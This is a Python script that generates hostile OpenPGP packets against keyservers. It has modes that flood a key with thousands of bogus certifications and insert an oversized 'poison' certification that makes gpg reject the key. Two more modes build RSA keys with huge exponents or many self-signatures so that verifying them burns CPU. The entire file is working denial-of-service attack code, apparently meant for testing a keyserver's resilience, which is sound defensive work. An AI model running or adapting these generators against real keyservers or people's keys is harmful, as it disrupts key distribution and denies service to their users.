#!/usr/bin/env python3
"""make_hostile.py COMMAND ...: builds the packets of attacks on a keyserver's stored keys.
  flood IN OUT N [DATE [TOTAL]]  IN (binary key: primary, user ID, ...) with N certifications
                         by random issuers that verify for nobody, ~1,600 bytes each (or sized
                         so that OUT has TOTAL bytes), dated DATE (Unix time, default
                         2030-03-17), inserted after the first user ID's packets
  poison IN OUT          IN with one such certification whose unhashed area is 10,500 bytes
                         (gpg 2.2 refuses a whole key holding it: "unhashed data too long")
  costly OUT             an RSA key: random 4096-bit modulus, 16,384-bit public exponent, one
                         user ID with 20 self-certifications whose digest prefixes match (the
                         RSA check itself fails, after costing ~2 s each at such an exponent)
  heavy OUT N            the same with the usual exponent 65537 and N self-certifications:
                         each costs one real RSA-4096 check at the shard"""
import hashlib, os, struct, sys
from pgp_frames import frames

def packets(b):
    for tag, o, _, end in frames(b):
        yield tag, b[o:end]

def packet(tag, body):
    n = len(body)
    if n < 256:
        return bytes([0x80 | tag << 2, n]) + body
    if n < 65536:
        return bytes([0x81 | tag << 2]) + struct.pack('>H', n) + body
    return bytes([0x82 | tag << 2]) + struct.pack('>I', n) + body

def sub(t, data):
    n = len(data) + 1
    if n < 192:
        ln = bytes([n])
    else:
        ln = b'\xff' + struct.pack('>I', n)
    return ln + bytes([t]) + data

def junk(created, unhashed_extra=0, note=1000):
    issuer = os.urandom(20)
    hashed = sub(2, struct.pack('>I', created)) + sub(33, b'\x04' + issuer) + \
        sub(20, b'\x80\x00\x00\x00' + struct.pack('>HH', 4, note) + b'junk' + os.urandom(note))
    unhashed = sub(16, issuer[12:])
    if unhashed_extra:
        unhashed += sub(101, os.urandom(unhashed_extra))
    body = bytes([4, 0x10, 1, 8]) + struct.pack('>H', len(hashed)) + hashed + \
        struct.pack('>H', len(unhashed)) + unhashed + os.urandom(2) + \
        struct.pack('>H', 4096) + bytes([0x80 | os.urandom(1)[0]]) + os.urandom(511)
    return packet(2, body)

def insert_after_first_uid(data, extra):
    out, seen_uid, done = b'', False, False
    for tag, raw in packets(data):
        if seen_uid and not done and tag != 2:
            out += extra
            done = True
        if tag == 13:
            seen_uid = True
        out += raw
    if not done:
        out += extra
    return out

def costly(path, sigs=20, e=None):
    n = int.from_bytes(os.urandom(512), 'big') | (1 << 4095) | 1
    if e is None:
        e = int.from_bytes(os.urandom(2048), 'big') | (1 << 16383) | 1
    mpi = lambda v: struct.pack('>H', v.bit_length()) + v.to_bytes((v.bit_length() + 7) // 8, 'big')
    key = bytes([4]) + struct.pack('>I', 1700000000) + bytes([1]) + mpi(n) + mpi(e)
    fpr = hashlib.sha1(b'\x99' + struct.pack('>H', len(key)) + key).digest()
    uid = b'Costly Exponent <costly@example.org>'
    out = packet(6, key) + packet(13, uid)
    for i in range(sigs):
        hashed = sub(2, struct.pack('>I', 1700000000 + i)) + sub(33, b'\x04' + fpr)
        head = bytes([4, 0x13, 1, 8]) + struct.pack('>H', len(hashed)) + hashed
        d = hashlib.sha256(b'\x99' + struct.pack('>H', len(key)) + key + b'\xb4' +
                           struct.pack('>I', len(uid)) + uid + head + b'\x04\xff' +
                           struct.pack('>I', len(head))).digest()
        s = int.from_bytes(os.urandom(512), 'big') % n
        unhashed = sub(16, fpr[12:])
        body = head + struct.pack('>H', len(unhashed)) + unhashed + d[:2] + mpi(s)
        out += packet(2, body)
    open(path, 'wb').write(out)

cmd = sys.argv[1]
if cmd == 'flood':
    src, dst, n = sys.argv[2], sys.argv[3], int(sys.argv[4])
    date = int(sys.argv[5]) if len(sys.argv) > 5 else 1900000000
    notes = [1000] * n
    if len(sys.argv) > 6:
        room = int(sys.argv[6]) - os.path.getsize(src)
        notes = [1000 + room // n - len(junk(0))] * n
        notes[-1] += room - n * (room // n)
    extra = b''.join(junk(date + i, 0, notes[i]) for i in range(n))
    open(dst, 'wb').write(insert_after_first_uid(open(src, 'rb').read(), extra))
elif cmd == 'poison':
    src, dst = sys.argv[2], sys.argv[3]
    open(dst, 'wb').write(insert_after_first_uid(open(src, 'rb').read(), junk(1900000000, 10500)))
elif cmd == 'costly':
    costly(sys.argv[2])
elif cmd == 'heavy':
    costly(sys.argv[2], int(sys.argv[3]), 65537)
else:
    sys.exit(__doc__)
